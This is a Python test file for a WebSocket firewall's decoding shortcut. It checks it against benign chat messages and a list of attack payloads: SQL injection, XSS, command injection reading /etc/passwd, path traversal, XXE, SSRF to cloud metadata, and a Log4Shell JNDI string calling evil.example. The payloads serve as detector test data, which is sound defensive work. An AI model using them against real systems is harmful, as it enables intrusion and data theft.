"""The plain-message shortcut (wsfw.decoders.flat and the pipeline's use of it).

Its whole promise is equivalence: where :func:`plain_values` answers, it gives
exactly the values full decoding gives the detector, and a pipeline that takes
the shortcut reaches exactly the verdicts of one that decodes everything. Both
are checked on a carried set of benign and attack payloads in every shape the
shortcut takes or must refuse, and on generated JSON objects.
"""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from zope.interface import implementer

from wsfw import decoders
from wsfw.decoders.flat import plain_values
from wsfw.decoders.signalr import RS
from wsfw.detect import Engine
from wsfw.hook import FORWARD, MessageView
from wsfw.inspection.audit import Audit
from wsfw.inspection.detect import DetectInspector, scannable
from wsfw.inspection.leaks import LeaksInspector
from wsfw.inspection.pipeline import Pipeline
from wsfw.interfaces import IInspector

ENGINE = Engine(paranoia=1)

#: Message texts (each also wrapped below): chat, attacks of every family, and every way a
#: message can look plain but must be decoded in full (nested encodings, path-rule keys, bounds).
TEXTS = [
    "hey, are you coming to the standup at ten?", "ok", "", "x", "lol 😂 see you", "Ça va? Größe ½ ﬁ",
    "don't drop the table, it's mine", "select a seat or order by phone", "1' OR '1'='1", "admin'--",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(document.cookie)",
    "; cat /etc/passwd", "$(whoami)", "whoami", "id;", "../../../../etc/passwd", "{{7*7}}",
    "${jndi:ldap://evil.example/a}", "http://169.254.169.254/latest/meta-data/", "%27%20or%201%3D1--",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+", "PHN2Zy9vbmxvYWQ9",
    '{"$where": "sleep(100)"}', "[1, 2, 3]", " {\"nested\": \"<script>x</script>\"}", "a\\u003cscript\\u003e",
    "__proto__", "constructor.prototype.polluted", "line one\nline two", "tab\there", "  leading blanks",
    "*)(uid=*))(|(uid=*", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "eval(base64_decode('x'))",
]


def wrappings(text: str) -> list[str]:
    """``text`` as a plain message, in flat and nested JSON objects and in Socket.IO events."""
    return [
        text,
        json.dumps({"type": "chat", "user": "u00017", "text": text}, ensure_ascii=False),
        json.dumps({"type": "chat", "n": 12, "f": 1.5, "ok": True, "none": None, "text": text}),
        json.dumps({"id": "550e8400-e29b-41d4-a716-446655440000", "ts": "2026-11-22T20:05:48Z", "text": text}),
        "42" + json.dumps(["chat message", "room-7f3a9c2e1b4d5f60", text], ensure_ascii=False),
        json.dumps({"prototype": text}), json.dumps({"a__proto__": text}), json.dumps({"$set": text}),
        json.dumps({"_private": text}), json.dumps({"user name": text}), json.dumps({"text": [text]}),
        json.dumps({"deep": {"text": text}}), json.dumps([text]), " " + json.dumps({"text": text}),
        "42" + json.dumps(["chat message", text], ensure_ascii=False),
        "42" + json.dumps([text, "x", text]), "42" + json.dumps(["ev", {"text": text}]),
        "42" + json.dumps(["ev", 7, text]), "42/admin," + json.dumps(["ev", text]),
        "421" + json.dumps(["ev", text]), "451-" + json.dumps(["ev", {"_placeholder": True, "num": 0}]),
        "42" + json.dumps(["ev"] + [text] * 40), "40", "2", "3probe",
        json.dumps({"type": 1, "target": "Send", "arguments": [text]}, ensure_ascii=False) + RS,
        json.dumps({"type": 1, "invocationId": "7", "target": "Send", "arguments": ["x", text, ""]}) + RS,
        json.dumps({"type": 1, "target": text, "arguments": []}) + RS,
        json.dumps({"type": 1, "target": "Send", "arguments": [text, 3]}) + RS,
        json.dumps({"type": 1, "target": "Send", "arguments": [{"text": text}]}) + RS,
        json.dumps({"type": 1, "target": "Send", "prototype": [text]}) + RS,
        json.dumps({"type": 4, "target": "Stream", "arguments": [text]}) + RS,
        json.dumps({"type": True, "target": "Send", "arguments": [text]}) + RS,
        json.dumps({"type": 1, "target": "Send", "arguments": [text]}) + RS + json.dumps({"type": 6}) + RS,
        json.dumps({"type": 1, "target": "Send", "arguments": [text]}),
        json.dumps({"protocol": "json", "version": 1}) + RS,
    ] + stomp_frames(text) + graphql_operations(text)


def graphql_operations(text: str) -> list[str]:
    """``text`` in graphql-ws operations: variables, query, operationName; and the shapes left
    to full decoding (extensions, nested variables, a non-string query, other message types)."""
    query = "subscription OnChat($q: String!) { chat(filter: $q) { id text } }"
    return [json.dumps(m, ensure_ascii=False) for m in (
        {"type": "subscribe", "id": "1", "payload": {"query": query, "variables": {"q": text}}},
        {"id": "7f3a9c2e-1b4d-4f60-9a1e-3c5d7e9f0a2b", "type": "start",
         "payload": {"variables": {"q": text, "n": 3}, "operationName": "OnChat", "query": query}},
        {"type": "subscribe", "id": "2", "payload": {"query": text}},
        {"type": "subscribe", "id": "3", "payload": {"query": query, "variables": None}},
        {"type": "subscribe", "id": "4", "payload": {"query": query, "variables": {"q": [text]}}},
        {"type": "subscribe", "id": "5", "payload": {"query": query, "extensions": {"q": text}}},
        {"type": "subscribe", "id": "6", "payload": {"query": 7, "variables": {"q": text}}},
        {"type": "subscribe", "id": "7", "payload": {"query": query, "operationName": None}},
        {"type": "next", "id": "1", "payload": {"data": {"chat": {"text": text}}}},
        {"type": "subscribe", "id": {"x": text}, "payload": {"query": query}},
        {"type": ["subscribe"], "id": "8", "payload": {"query": query, "variables": {"q": text}}},
    )]


def stomp_frames(text: str) -> list[str]:
    """``text`` in STOMP frames: the shapes the shortcut takes (text or flat JSON bodies under
    the specs' headers, CRLF, heart-beats, content-length) and those it leaves to full decoding
    (escapes, other headers, several frames, SockJS, an unfinished frame, nested bodies)."""
    octets = len(text.encode())
    body = json.dumps({"type": "chat", "text": text}, ensure_ascii=False)
    return [
        f"SEND\ndestination:/queue/chat\ncontent-type:text/plain;charset=utf-8\n\n{text}\x00",
        f"SEND\ndestination:/queue/chat\ncontent-length:{octets}\n\n{text}\x00\n\n",
        f"\r\nSEND\r\ndestination:/topic/room-1\r\nreceipt:r-7\r\n\r\n{text}\x00",
        f"SEND\ndestination:/app/chat\ncontent-type:application/json\n\n{body}\x00",
        f"SEND\ndestination:/app/chat\ncontent-type:application/json\n\n{json.dumps([text])}\x00",
        f"SEND\ndestination:/app/chat\ncontent-type:application/json\n\n{json.dumps(text)}\x00",
        f"SEND\ndestination:{text}\n\nhi\x00", f"SEND\ndestination:/q\nx-user:{text}\n\nhi\x00",
        f"SEND\ndestination:/q/a\\cb\n\n{text}\x00", f"CONNECT\nlogin:a\\b\npasscode:{text}\n\n\x00",
        f"SEND\ndestination:/q\n\n{text}\x00SEND\ndestination:/q\n\nx\x00",
        f"MESSAGE\ndestination:/q\nmessage-id:1\nsubscription:s\n\n{text}\x00",
        f"SEND\ndestination:/q\n\n{text}", json.dumps([f"SEND\ndestination:/q\n\n{text}\x00"]),
        f"SEND\ndestination:/q\n\n%3C{text}\x00",
    ]


PAYLOADS = [w for text in TEXTS for w in wrappings(text)]


def settled_state(framing: str):
    """A connection's decoder state after a first message (which may settle the framing)."""
    state = decoders.ConnectionState()
    first = {"signalr": HANDSHAKE, "stomp": STOMP_CONNECT, "graphqlws": GRAPHQL_INIT}.get(framing, b"hello")
    decoders.decode_message(first, False, framing, decoders.Limits(), state)
    return state


@pytest.mark.parametrize("framing", ["auto", "json", "text", "socketio", "signalr", "stomp", "graphqlws"])
def test_values_are_what_full_decoding_gives_the_detector(framing):
    limits = decoders.Limits()
    answered = 0
    for text in PAYLOADS:
        payload = text.encode()
        values = plain_values(payload, framing, settled_state(framing), limits)
        if values is None:
            continue
        answered += 1
        decoded = decoders.decode_message(payload, False, framing, limits, settled_state(framing))
        assert decoded.error is None and decoded.truncated is None, text
        assert values == [value for _, value in scannable(decoded)], text
        assert not any("$" in path or "proto" in path for path, _ in decoded.params), text
    assert answered >= len(TEXTS), "the shortcut must take the plain shapes"


def test_refused_shapes():
    """What must be decoded in full gets None: a framework not settled yet, nested encodings,
    keys the path rules read, bounds, Socket.IO namespaces, acks and attachments."""
    limits = decoders.Limits()
    state = settled_state("auto")
    assert plain_values(b'{"text": "hi"}', "auto", decoders.ConnectionState(), limits) is None  # first message
    for text in ('{"a": "%27"}', '{"a": "&lt;"}', '{"a": "\\\\x41 b"}', '{"a": "PHN2Zy9vbmxvYWQ9"}', '{"a": "[1]"}',
                 '{"prototype": "x"}', '{"a__proto__": 1}', '{"a": {"b": 1}}', '["x"]',
                 '42/admin,["ev","x"]', '421["ev","x"]', '451-["ev",{"_placeholder":true,"num":0}]',
                 '42["ev",{"a":1}]', '42[1,"x"]'):
        assert plain_values(text.encode(), "auto", state, limits) is None, text
    small = decoders.Limits(max_params=3, max_depth=1, max_expanded_bytes=10)
    assert plain_values(b'{"a": "1", "b": "2", "c": "3", "d": "4"}', "json", None, small) is None
    assert plain_values(b'{"a": "a long value indeed"}', "json", None, small) is None
    assert plain_values(b"\xff\xfe", "text", None, limits) is None


json_scalars = st.one_of(st.text(max_size=30), st.integers(), st.floats(allow_nan=False, allow_infinity=False),
                         st.booleans(), st.none())


@settings(max_examples=300, deadline=None)
@given(obj=st.dictionaries(st.text(max_size=12), json_scalars, max_size=8))
def test_generated_objects(obj):
    limits = decoders.Limits()
    payload = json.dumps(obj, ensure_ascii=False).encode("utf-8", "surrogatepass")
    values = plain_values(payload, "json", None, limits)
    if values is not None:
        decoded = decoders.decode_message(payload, False, "json", limits, None)
        assert values == [value for _, value in scannable(decoded)]


class Recorded(Audit):
    """The audit trail as a list of decisions (what detect mode produces instead of closes)."""

    def __init__(self):
        super().__init__(None)
        self.lines = []

    def decision(self, **fields):
        self.lines.append({k: v for k, v in fields.items() if k != "conn"})


def pipeline(mode="block", *, leaks=False, inspect_upstream=False, extra=None, framing="auto"):
    inspectors = [DetectInspector(ENGINE, 5)] + ([LeaksInspector()] if leaks else []) + ([extra] if extra else [])
    return Pipeline(route="r", mode=mode, framing=framing, inspect_upstream=inspect_upstream, inspectors=inspectors,
                    limits=decoders.Limits(), on_decode_error="raw", on_decode_limit="log", on_error="close",
                    audit=Recorded())


HANDSHAKE = b'{"protocol":"json","version":1}\x1e'  # a SignalR connection's first message
STOMP_CONNECT = b"CONNECT\naccept-version:1.2\nhost:chat\n\n\x00"  # a STOMP connection's
GRAPHQL_INIT = b'{"type":"connection_init","payload":{}}'  # a graphql-ws connection's


def verdicts(pl, direction="client", first=b"hello"):
    """Each payload's verdict and audit lines, on a connection that has seen ``first``."""
    out = []
    for n, text in enumerate(PAYLOADS):
        view = MessageView(f"c{n}", "r", "1.2.3.4:5", direction, 2, text.encode(), False, None, "/")
        pl.inspect_message(view._replace(payload=first, index=1))
        del pl.audit.lines[:]
        verdict = pl.inspect_message(view)
        out.append((text, verdict.action, verdict.reason, verdict.rule, list(pl.audit.lines)))
        pl.connection_closed(f"c{n}")
    return out


@pytest.mark.parametrize("framing,first", [("auto", b"hello"), ("auto", HANDSHAKE), ("signalr", HANDSHAKE),
                                           ("auto", STOMP_CONNECT), ("stomp", STOMP_CONNECT),
                                           ("auto", GRAPHQL_INIT), ("graphqlws", GRAPHQL_INIT)],
                         ids=["auto", "auto-settled-on-signalr", "signalr", "auto-settled-on-stomp", "stomp",
                              "auto-settled-on-graphqlws", "graphqlws"])
@pytest.mark.parametrize("mode", ["block", "detect"])
@pytest.mark.parametrize("leaks,direction", [(False, "client"), (True, "client"), (True, "upstream")])
def test_pipeline_verdicts_equal_full_decoding(mode, leaks, direction, framing, first):
    shortcut = pipeline(mode, leaks=leaks, inspect_upstream=True, framing=framing)
    full = pipeline(mode, leaks=leaks, inspect_upstream=True, framing=framing)
    full._plain_directions = frozenset()
    assert shortcut._plain_directions == ({"client"} if leaks else {"client", "upstream"})
    got, expected = verdicts(shortcut, direction, first), verdicts(full, direction, first)
    assert got == expected
    assert sum(bool(lines) for *_, lines in expected) >= 100  # the set does hold attacks, in every wrapping


def test_no_shortcut_past_other_judges():
    """Another inspector (here one that counts) sees every message, plain ones included."""

    @implementer(IInspector)
    class Counter:
        name = "counter"
        seen = 0

        def inspect(self, view, decoded):
            Counter.seen += 1

    pl = pipeline(extra=Counter())
    assert not pl._plain_directions
    for n in range(5):
        assert pl.inspect_message(MessageView("c", "r", "p", "client", n, b'{"text": "hi there"}', False, None,
                                              "/")) is FORWARD
    assert Counter.seen == 5


def test_auto_connection_settled_on_signalr():
    """A route with framing auto whose connection the SignalR handshake claimed: its invocations
    take the shortcut, as on a signalr route; before the handshake nothing does."""
    limits = decoders.Limits()
    state = decoders.ConnectionState()
    message = json.dumps({"type": 1, "target": "Send", "arguments": ["hi there", "x"]}).encode() + RS.encode()
    assert plain_values(message, "auto", state, limits) is None
    decoders.decode_message(HANDSHAKE, False, "auto", limits, state)
    assert state.framing == "signalr"
    assert plain_values(message, "auto", state, limits) == ["Invocation", "Send", "hi there"]


def test_auto_connection_settled_on_stomp():
    """A route with framing auto whose connection a STOMP CONNECT claimed: its plain frames take
    the shortcut; while a frame is unfinished, the next message is decoded in full."""
    limits = decoders.Limits()
    state = decoders.ConnectionState()
    message = b"SEND\ndestination:/queue/chat\ncontent-type:text/plain\n\nhi there\x00"
    assert plain_values(message, "auto", state, limits) is None
    decoders.decode_message(STOMP_CONNECT, False, "auto", limits, state)
    assert state.framing == "stomp"
    assert plain_values(message, "auto", state, limits) == ["SEND", "/queue/chat", "text/plain", "hi there"]
    decoders.decode_message(b"SEND\ndestination:/q\n\nhalf a bo", False, "auto", limits, state)
    assert plain_values(b"dy\x00", "auto", state, limits) is None


def test_ids_and_timestamps_are_plain_unless_they_decode():
    """Strings of 16 characters without a blank (ids, timestamps, tokens) may hold an encoding:
    they are walked as full decoding walks them, and only those that decode further refuse."""
    limits = decoders.Limits()
    message = {"id": "550e8400-e29b-41d4-a716-446655440000", "ts": "2026-11-22T20:05:48Z", "text": "hi there"}
    assert plain_values(json.dumps(message).encode(), "json", None, limits) == list(message.values())
    hidden = dict(message, id="PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+")  # base64 of an XSS payload
    assert plain_values(json.dumps(hidden).encode(), "json", None, limits) is None
